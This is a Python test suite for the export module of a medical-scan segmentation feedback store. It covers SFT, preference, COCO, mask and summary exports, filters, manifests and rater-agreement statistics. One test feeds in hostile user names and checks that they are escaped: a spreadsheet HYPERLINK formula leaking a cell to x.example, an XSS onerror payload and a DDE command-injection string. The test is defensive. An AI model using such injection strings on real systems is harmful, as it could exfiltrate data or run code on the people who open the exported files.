"""Exports from a store filled here with known masks: every format, the filters, the manifest, the summary."""
from __future__ import annotations

import json
from datetime import datetime, timedelta, timezone
from pathlib import Path

import nibabel as nib
import numpy as np
import pytest

import store_demo as demo
from annotation import codec
from coreseg.mask_boxes import mask_boxes
from annotation.export import (SYSTEM_PROMPT, ExportFilters, export, kendall_tau_b,
                               krippendorff_alpha_interval, main, summary_tables)
from annotation.store import FeedbackError, FeedbackStore
from coreseg.answer import parse_answer, render_answer
from coreseg.metrics import mask_box
from coreseg.scan_io import from_png_bytes, read_scan

H, W = 48, 64


def two_blobs() -> np.ndarray:
    mask = demo.rect_mask(H, W, 5, 6, 15, 20)
    mask[30:40, 40:55] = True
    mask[32, 39] = True  # 8-connected to the second blob, not a third box
    return mask


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def filled(request, tmp_path_factory):
    """Three plain cases (two raters each, first rater's correction accepted), one two-lesion case, one NIfTI case,
    a draft, a rejected correction and a second model version's run; on SQLite and on PostgreSQL."""
    root = tmp_path_factory.mktemp("export")
    db = root / "feedback.db" if request.param == "sqlite" else request.getfixturevalue("postgres_server").new_database()
    store = FeedbackStore(db)
    made = demo.populate(store, n_cases=3, annotators=("ann-a", "ann-b"), height=H, width=W, seed=3)
    c0 = made["cases"][0]
    run0 = made["runs"][0]
    cands0 = made["candidates"][run0]
    # a draft and a rejected correction on case 0 must not change anything downstream
    store.submit_feedback(c0, run0, "ann-b", ranking={cands0[0]: 1}, status="draft")
    rejected = store.submit_feedback(c0, run0, "ann-b", chosen_candidate_id=cands0[3], mask=demo.rect_mask(H, W, 0, 0, 5, 5))
    store.review(rejected, "rev", "reject", reason="wrong organ")
    # a two-lesion case with a case target, accepted without an edited reasoning, ranked with a tie
    scan_hash = store.put_scan(demo.make_scan(99, H, W))
    two = store.add_case(scan_hash, "Outline the kidney tumors.", "ann-a", target="kidney tumors")
    run2, cands2 = store.add_run(two, "demo-v0", {}, demo.make_candidates(H, W, 3, seed=99))
    f_two = store.submit_feedback(two, run2, "ann-a", ranking={cands2[0]: 1, cands2[1]: 1, cands2[2]: 3},
                                  ratings={cands2[0]: {"correctness": 4}}, chosen_candidate_id=cands2[1],
                                  mask=two_blobs(), clicks=2, strokes=1, seconds=30.0)
    store.review(f_two, "rev", "accept")
    # a NIfTI case
    volume = np.arange(6 * 7 * 5, dtype=np.int16).reshape(6, 7, 5)
    affine = np.array([[0, 0, -1.5, 40], [-2.0, 0, 0, 30], [0, 2.5, 0, -20], [0, 0, 0, 1]])
    nii = root / "vol.nii.gz"
    nib.save(nib.Nifti1Image(volume, affine), nii)
    scan = read_scan(nii, axis=2, slice_index=2)
    nh, nw = scan.pixels.shape
    nifti_hash = store.put_scan(scan)
    nifti_case = store.add_case(nifti_hash, "Segment the lesion.", "ann-a")
    nifti_cands = demo.make_candidates(nh, nw, 2, seed=5)
    nrun, ncands = store.add_run(nifti_case, "demo-v0", {}, nifti_cands)
    nifti_mask = np.zeros((nh, nw), bool)
    nifti_mask[1:3, 2:5] = True
    nifti_mask[-1, -1] = True
    f_nifti = store.submit_feedback(nifti_case, nrun, "ann-b", chosen_candidate_id=ncands[0], mask=nifti_mask,
                                    edited_reasoning="The normal parenchyma is uniform; the lesion is brighter.")
    store.review(f_nifti, "rev", "accept")
    # a second model version, ranked by one rater only
    store.add_model_version("demo-v1", "/ck/v1", parent="demo-v0")
    run_v1, cands_v1 = store.add_run(made["cases"][1], "demo-v1", {}, demo.make_candidates(H, W, 2, seed=7))
    store.submit_feedback(made["cases"][1], run_v1, "ann-a", ranking={cands_v1[0]: 2, cands_v1[1]: 1})
    store.close()
    made.update(db=str(db), root=root, two=two, two_run=run2, two_cands=cands2, f_two=f_two, nifti_case=nifti_case,
                nifti_mask=nifti_mask, nifti_affine=affine, nifti_volume=volume, nifti_scan=scan, f_nifti=f_nifti,
                run_v1=run_v1, cands_v1=cands_v1, rejected=rejected)
    return made


def read_jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_mask_boxes_in_exports():
    assert sorted(mask_boxes(two_blobs())) == [(6, 5, 20, 15), (39, 30, 55, 40)]
    assert mask_boxes(two_blobs())[0] == (39, 30, 55, 40)  # largest part first
    assert mask_boxes(np.zeros((4, 4), bool)) == []
    single = demo.rect_mask(10, 10, 2, 3, 5, 9)
    assert mask_boxes(single) == [mask_box(single)]


def test_sft(filled, tmp_path):
    out = tmp_path / "sft"
    manifest = export(filled["db"], out, "sft")
    records = read_jsonl(out / "sft.jsonl")
    store = FeedbackStore(filled["db"], read_only=True)
    expected_cases = sorted(filled["cases"] + [filled["two"], filled["nifti_case"]])
    assert [r["case_id"] for r in records] == expected_cases
    assert manifest["counts"]["records"] == len(records) == 5
    for record in records:
        case = store.get_case(record["case_id"])
        accepted = store.accepted_mask(record["case_id"])
        fb = store.get_feedback(record["feedback_id"])
        system, user, assistant = record["messages"]
        assert (system["role"], user["role"], assistant["role"]) == ("system", "user", "assistant")
        assert system["content"] == SYSTEM_PROMPT
        image_ref = user["content"][0]["image"]
        assert user["content"][0]["type"] == "image" and record["images"] == [image_ref]
        assert user["content"][1] == {"type": "text", "text": case["question"]}
        assert np.array_equal(from_png_bytes((out / image_ref).read_bytes()),
                              from_png_bytes(store.get_scan_display_png(case["scan_hash"])))
        assert np.array_equal(codec.decode_mask((out / record["mask"]).read_bytes()), accepted)
        proposal = [c for c in store.get_candidates(fb["run_id"], with_masks=False)
                    if c["id"] == fb["correction"]["proposal_candidate_id"]][0]
        reasoning = fb["edited_reasoning"] or proposal["reasoning"]
        target = case["target"] or proposal["target"]
        assert assistant["content"] == render_answer(reasoning, target, mask_boxes(accepted))
        assert parse_answer(assistant["content"], accepted.shape).ok
    two = [r for r in records if r["case_id"] == filled["two"]][0]
    assert two["reasoning_source"] == "model" and two["boxes"] == [[39, 30, 55, 40], [6, 5, 20, 15]]  # largest part first
    assert "The kidney tumors are located at [[39, 30, 55, 40], [6, 5, 20, 15]]" in two["messages"][2]["content"]
    assert sum(r["reasoning_source"] == "edited" for r in records) == 4
    store.close()


def test_manifest_versions_the_dataset(filled, tmp_path):
    first = export(filled["db"], tmp_path / "a", "sft")
    second = export(filled["db"], tmp_path / "b", "sft")
    if "://" in filled["db"]:  # PostgreSQL: no file to hash; the row counts the export saw, and the same files
        assert first["database"]["backend"] == "postgresql" and first["database"]["snapshot_sha256"] is None
        assert first["database"]["row_counts"] == second["database"]["row_counts"]
        assert first["database"]["row_counts"]["feedback"] > 0 and second["files_sha256"] == first["files_sha256"]
        with pytest.raises(FeedbackError, match="not empty"):
            export(filled["db"], tmp_path / "a", "sft")
        return
    saved = json.loads((tmp_path / "a" / "manifest.json").read_text())
    assert saved["database"]["snapshot_sha256"] == first["database"]["snapshot_sha256"]
    assert len(saved["database"]["snapshot_sha256"]) == 64 and saved["code_version"]
    assert saved["filters"] == {"status": ["submitted"], "min_raters": None, "since": None, "until": None,
                                "model_versions": None}
    assert saved["schema_version"] and saved["database"]["row_counts"]["feedback"] > 0
    # same database, same data: same snapshot hash and same file digest
    assert second["database"]["snapshot_sha256"] == first["database"]["snapshot_sha256"]
    assert second["files_sha256"] == first["files_sha256"]
    assert not list((tmp_path / "a").glob(".snapshot*"))
    with pytest.raises(FeedbackError, match="not empty"):
        export(filled["db"], tmp_path / "a", "sft")
    kept = export(filled["db"], tmp_path / "c", "coco", keep_snapshot=True)
    snap = tmp_path / "c" / "snapshot.sqlite"
    import hashlib
    assert hashlib.sha256(snap.read_bytes()).hexdigest() == kept["database"]["snapshot_sha256"]


def test_groups(filled, tmp_path):
    out = tmp_path / "groups"
    export(filled["db"], out, "groups")
    records = {r["group_id"]: r for r in read_jsonl(out / "groups.jsonl")}
    store = FeedbackStore(filled["db"], read_only=True)
    assert set(records) == set(filled["runs"]) | {filled["two_run"], filled["run_v1"]} | {
        store.queue(case_id=filled["nifti_case"])[0]["run_id"]}
    run0 = filled["runs"][0]
    record = records[run0]
    assert record["prompt"][0]["content"] == SYSTEM_PROMPT and record["image"] == record["prompt"][1]["content"][0]["image"]
    assert record["raters"] == ["ann-a", "ann-b"] and record["n_raters"] == 2
    assert np.array_equal(codec.decode_mask((out / record["accepted_mask"]).read_bytes()),
                          store.accepted_mask(record["case_id"]))
    stored = store.get_candidates(run0)
    for cand, row in zip(record["candidates"], stored):
        assert cand["candidate_id"] == row["id"] and cand["text"] == row["text"]
        assert cand["token_logprobs"] == row["token_logprobs"] and cand["token_ids"] == row["token_ids"]
        assert np.array_equal(codec.decode_mask((out / cand["mask"]).read_bytes()), row["mask"])
    # every submitted (not draft) ranking and rating on the run appears, per annotator
    submitted = [q for q in store.queue(case_id=record["case_id"]) if q["run_id"] == run0]
    for q in submitted:
        fb = store.get_feedback(q["feedback_id"], with_mask=False)
        for cid, rank in fb["ranking"].items():
            cand = [c for c in record["candidates"] if c["candidate_id"] == cid][0]
            assert {"annotator": q["annotator"], "feedback_id": q["feedback_id"], "rank": rank} in cand["ranks"]
        for cid, scales in fb["ratings"].items():
            cand = [c for c in record["candidates"] if c["candidate_id"] == cid][0]
            for scale, value in scales.items():
                assert {"annotator": q["annotator"], "feedback_id": q["feedback_id"], "scale": scale,
                        "value": value} in cand["ratings"]
    assert sum(len(c["ranks"]) for c in record["candidates"]) == sum(
        len(store.get_feedback(q["feedback_id"])["ranking"]) for q in submitted)
    assert records[filled["run_v1"]]["model_version"] == "demo-v1"
    store.close()


def test_preferences(filled, tmp_path):
    out = tmp_path / "prefs"
    manifest = export(filled["db"], out, "preferences", ExportFilters(model_versions=("demo-v0",)))
    records = read_jsonl(out / "preferences.jsonl")
    store = FeedbackStore(filled["db"], read_only=True)
    tie = [r for r in records if r["feedback_id"] == filled["f_two"]]
    c = filled["two_cands"]  # ranks {c0: 1, c1: 1, c2: 3}: the tie gives no pair, each of c0, c1 beats c2
    assert sorted((r["chosen_candidate_id"], r["rejected_candidate_id"]) for r in tie) == [(c[0], c[2]), (c[1], c[2])]
    texts = {x["id"]: x["text"] for x in store.get_candidates(filled["two_run"], with_masks=False)}
    for r in tie:
        assert r["chosen"] == [{"role": "assistant", "content": texts[r["chosen_candidate_id"]]}]
        assert r["rejected"] == [{"role": "assistant", "content": texts[r["rejected_candidate_id"]]}]
        assert r["chosen_rank"] < r["rejected_rank"] and r["prompt"][1]["content"][1]["text"] == "Outline the kidney tumors."
    for r in (r for r in records if r["source"] == "ranking"):
        ranking = store.get_feedback(r["feedback_id"], with_mask=False)["ranking"]
        assert ranking[r["chosen_candidate_id"]] < ranking[r["rejected_candidate_id"]]
    edits = [r for r in records if r["source"] == "edit"]
    assert len(edits) == manifest["counts"]["from_edit"] == 7  # 3 cases × 2 raters + the NIfTI case
    for r in edits:
        fb = store.get_feedback(r["feedback_id"])
        original = [x for x in store.get_candidates(fb["run_id"], with_masks=False) if x["id"] == fb["edited_candidate_id"]][0]
        assert r["rejected"][0]["content"] == original["text"]
        chosen = parse_answer(r["chosen"][0]["content"]).answer
        assert chosen.reasoning == fb["edited_reasoning"].strip()
        assert list(chosen.boxes) == mask_boxes(fb["mask"])
    assert manifest["counts"]["skipped_ties"] == 1
    assert all(r["model_version"] == "demo-v0" for r in records)
    store.close()


def test_coco_rle_decodes_bit_for_bit(filled, tmp_path):
    from pycocotools import mask as mask_utils
    from pycocotools.coco import COCO

    out = tmp_path / "coco"
    export(filled["db"], out, "coco")
    coco = COCO(str(out / "coco.json"))
    store = FeedbackStore(filled["db"], read_only=True)
    assert sorted(coco.getImgIds()) == sorted(filled["cases"] + [filled["two"], filled["nifti_case"]])
    for ann in coco.loadAnns(coco.getAnnIds()):
        expected = store.accepted_mask(ann["image_id"])
        decoded = mask_utils.decode(coco.annToRLE(ann)).astype(bool)
        assert decoded.dtype == bool and np.array_equal(decoded, expected)
        assert np.array_equal(coco.annToMask(ann).astype(bool), expected)
        x1, y1, x2, y2 = mask_box(expected)
        assert ann["bbox"] == [x1, y1, x2 - x1, y2 - y1] and ann["area"] == expected.sum()
        image = coco.loadImgs(ann["image_id"])[0]
        assert (out / image["file_name"]).exists() and (image["height"], image["width"]) == expected.shape
    names = {cat["name"] for cat in coco.loadCats(coco.getCatIds())}
    assert names == {"liver tumor", "kidney tumors"}
    store.close()


def test_masks_png_and_nifti_with_source_geometry(filled, tmp_path):
    out = tmp_path / "masks"
    manifest = export(filled["db"], out, "masks")
    index = {e["case_id"]: e for e in read_jsonl(out / "masks.jsonl")}
    store = FeedbackStore(filled["db"], read_only=True)
    for case_id, entry in index.items():
        png = from_png_bytes((out / entry["png"]).read_bytes())
        assert png.dtype == np.uint8 and set(np.unique(png)) <= {0, 255}
        assert np.array_equal(png > 0, store.accepted_mask(case_id))
    assert manifest["counts"]["nifti"] == 1
    entry = index[filled["nifti_case"]]
    written = nib.load(out / entry["nifti"])
    np.testing.assert_allclose(written.affine, filled["nifti_affine"])
    assert written.shape == filled["nifti_volume"].shape
    back = read_scan(out / entry["nifti"], axis=2, slice_index=2)
    assert np.array_equal(back.pixels > 0, filled["nifti_mask"])
    volume = np.asanyarray(written.dataobj)
    assert volume.sum() == filled["nifti_mask"].sum()
    # the voxels under the mask are the source voxels the clinician outlined
    np.testing.assert_array_equal(np.sort(filled["nifti_volume"][volume == 1]),
                                  np.sort(filled["nifti_scan"].pixels[filled["nifti_mask"]]))
    assert all(e["nifti"] is None for c, e in index.items() if c != filled["nifti_case"])
    store.close()


def test_filters(filled, tmp_path):
    store = FeedbackStore(filled["db"], read_only=True)
    everything = ExportFilters(status=("submitted", "draft")).rows(store)
    assert any(r["status"] == "draft" for r in everything)
    submitted = ExportFilters().rows(store)
    assert all(r["status"] == "submitted" for r in submitted)
    two_raters = ExportFilters(min_raters=2).rows(store)
    assert {r["run_id"] for r in two_raters} == set(filled["runs"])
    assert {r["model_version"] for r in ExportFilters(model_versions=("demo-v1",)).rows(store)} == {"demo-v1"}
    now = datetime.now(timezone.utc)
    assert ExportFilters(since=now + timedelta(hours=1)).rows(store) == []
    assert len(ExportFilters(until=now + timedelta(hours=1)).rows(store)) == len(submitted)
    assert ExportFilters(until=now - timedelta(days=1)).rows(store) == []
    store.close()
    manifest = export(filled["db"], tmp_path / "f", "sft", ExportFilters(min_raters=2))
    assert manifest["counts"]["records"] == 3 and manifest["filters"]["min_raters"] == 2
    # CLI: a date as --until includes that whole day
    today = now.date().isoformat()
    assert main(["--db", filled["db"], "--out", str(tmp_path / "cli"), "--format", "groups", "--since", today,
                 "--until", today, "--model-version", "demo-v1"]) == 0
    cli = json.loads((tmp_path / "cli" / "manifest.json").read_text())
    assert cli["counts"]["records"] == 1 and cli["filters"]["model_versions"] == ["demo-v1"]
    assert main(["--db", filled["db"], "--out", str(tmp_path / "cli"), "--format", "groups"]) == 2  # not empty


def test_summary(filled, tmp_path, capsys):
    store = FeedbackStore(filled["db"], read_only=True)
    tables = summary_tables(store, ExportFilters())
    per_annotator = tables["per_annotator"].set_index("annotator")
    rows = ExportFilters().rows(store)
    for name in ("ann-a", "ann-b"):
        mine = [r for r in rows if r["annotator"] == name]
        assert per_annotator.loc[name, "feedback"] == len(mine)
        assert per_annotator.loc[name, "corrections"] == sum(r["proposal_dice"] is not None for r in mine)
    accepted = store.accepted_corrections()
    expected_dice = np.mean([a["proposal_dice"] for a in accepted.values()])
    assert tables["totals"].loc[0, "mean_proposal_vs_accepted_dice"] == pytest.approx(expected_dice)
    assert tables["totals"].loc[0, "accepted_masks"] == len(accepted) == 5
    per_version = tables["per_model_version"].set_index("model_version")
    assert per_version.loc["demo-v0", "accepted_masks"] == 5 and per_version.loc["demo-v1", "feedback"] == 1
    ratings = tables["ratings"]
    assert set(ratings["scale"]) == {"correctness", "completeness"}
    agreement = tables["agreement"].set_index("signal")
    assert agreement.loc["ranking", "pairs"] == 3  # three runs ranked by both raters
    assert -1 <= agreement.loc["ranking", "mean_kendall_tau"] <= 1
    store.close()
    manifest = export(filled["db"], tmp_path / "s", "summary")
    printed = capsys.readouterr().out
    assert "## per annotator" in printed and "| ann-a |" in printed
    assert (tmp_path / "s" / "summary.md").exists() and (tmp_path / "s" / "summary_agreement.csv").exists()
    assert manifest["counts"]["accepted_masks"] == 5


def test_summary_escapes_user_names(tmp_path):
    """User names typed at sign-up reach summary.md and the CSVs as plain text: no HTML or Markdown runs, no
    spreadsheet formula (= + - @) runs, the table keeps its columns."""
    import csv

    evil = ('=HYPERLINK("http://x.example/?"&A1,"click")', '<img src=x onerror=alert(1)>|two', "@SUM(A1:A9)",
            "+cmd|' /C calc'!A0", "-2+3", "[link](http://x.example)")
    db = str(tmp_path / "evil.db")
    with FeedbackStore(db) as store:
        demo.populate(store, n_cases=1, annotators=evil, height=H, width=W, review=False)
    export(db, tmp_path / "s", "summary")
    text = (tmp_path / "s" / "summary.md").read_text()
    assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text
    assert "[link](" not in text and "\\[link\\](http://x.example)" in text
    table = text.split("## per annotator")[1].split("##")[0].strip().splitlines()
    widths = {len(line.replace("\\|", "").split("|")) for line in table}
    assert len(widths) == 1  # an escaped | does not add a column
    with open(tmp_path / "s" / "summary_per_annotator.csv", newline="") as handle:
        names = [row["annotator"] for row in csv.DictReader(handle)]
    assert sorted(names) == sorted("'" + n if n[0] in "=+-@" else n for n in evil)
    assert not any(n[0] in "=+-@" for n in names)


def test_agreement_statistics():
    assert krippendorff_alpha_interval({1: [3, 3], 2: [5, 5], 3: [1, 1]}) == pytest.approx(1.0)
    assert krippendorff_alpha_interval({1: [1, 5], 2: [5, 1]}) < 0
    # Krippendorff's worked example (4 coders, 12 units, missing values): interval α = 0.849
    units = {1: [1, 1, 1], 2: [2, 2, 3, 2], 3: [3, 3, 3, 3], 4: [3, 3, 3, 3], 5: [2, 2, 2, 2], 6: [1, 2, 3, 4],
             7: [4, 4, 4, 4], 8: [1, 1, 2, 1], 9: [2, 2, 2, 2], 10: [5, 5, 5], 11: [1, 1], 12: [3]}
    assert krippendorff_alpha_interval(units) == pytest.approx(0.849, abs=0.01)
    assert np.isnan(krippendorff_alpha_interval({1: [2]}))
    from scipy.stats import kendalltau
    rng = np.random.default_rng(0)
    for _ in range(20):  # ties included
        x, y = rng.integers(1, 4, 6), rng.integers(1, 5, 6)
        expected = kendalltau(x, y).statistic
        assert (np.isnan(expected) and np.isnan(kendall_tau_b(x, y))) or kendall_tau_b(x, y) == pytest.approx(expected)
    assert np.isnan(kendall_tau_b([1, 1], [1, 2]))


def test_empty_store_exports_cleanly(tmp_path):
    FeedbackStore(tmp_path / "empty.db").close()
    for fmt in ("sft", "groups", "preferences", "coco", "masks", "summary"):
        manifest = export(str(tmp_path / "empty.db"), tmp_path / fmt, fmt)
        assert manifest["format"] == fmt and (tmp_path / fmt / "manifest.json").exists()
